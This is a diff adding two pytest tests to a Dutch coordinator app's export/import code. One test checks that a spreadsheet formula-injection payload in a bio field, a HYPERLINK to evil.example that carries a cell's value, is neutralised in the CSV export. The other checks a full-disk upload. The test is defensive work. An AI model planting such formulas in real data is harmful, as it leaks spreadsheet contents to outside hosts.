@@ -4,11 +4,13 @@ Doorvoeren, which writes exactly the preview or nothing; and the downloads."""
 
 from __future__ import annotations
 
+import errno
 import io
 import json
 import re
 import zipfile
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 
@@ -294,3 +296,35 @@ def test_a_pool_csv_cannot_carry_is_said_and_json_still_downloads(app, coordinat
     assert "De pool kan niet als CSV worden geschreven; exporteer hem als JSON." in page
     assert "organisations.csv rij 2, kolom wijken: &#39;Noord|Zuid&#39; bevat &#39;|&#39;" in page
     assert coordinator.get("/beheer/export/kernteamdb.json").status_code == 200
+
+
+def test_a_formula_in_a_bio_is_neutralised_in_the_csv_zip_and_reads_back_unchanged(app, coordinator):
+    store = the_store(app)
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'
+    version = store.versions("professionals", ["p-anna"])["p-anna"]
+    pool.edit(store, "professionals", "p-anna", {"bio": formula}, version=version,
+              by=User("coordinator", "coordinator", created=datetime.now(UTC)))
+    as_zip = coordinator.get("/beheer/export/kernteamdb-csv.zip")
+    with zipfile.ZipFile(io.BytesIO(as_zip.data)) as archive:
+        text = archive.read("professionals.csv").decode("utf-8-sig")
+    assert ";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Klik\"\")\";" in text
+    upload(coordinator, ("kernteamdb-csv.zip", as_zip.data))
+    assert "Deze upload verandert niets aan de pool." in coordinator.get(PREVIEW).get_data(as_text=True)
+
+
+def test_an_upload_on_a_full_disk_is_a_dutch_503_and_leaves_nothing(app, coordinator, monkeypatch, tmp_path):
+    token = csrf_token(coordinator, IMPORT)
+    written = []
+
+    def full(path, data):  # the first file fits, the next meets a full disk
+        if written:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        written.append(path)
+        return real(path, data)
+
+    real = Path.write_bytes
+    monkeypatch.setattr(Path, "write_bytes", full)
+    answer = upload(coordinator, ("organisations.csv", b"id,name\norg-x,X\n"),
+                    ("professionals.csv", b"id,name\np-x,X\n"), token=token)
+    assert answer.status_code == 503 and "De opslag is vol" in answer.get_data(as_text=True)
+    assert written and list((tmp_path / "imports").iterdir()) == []
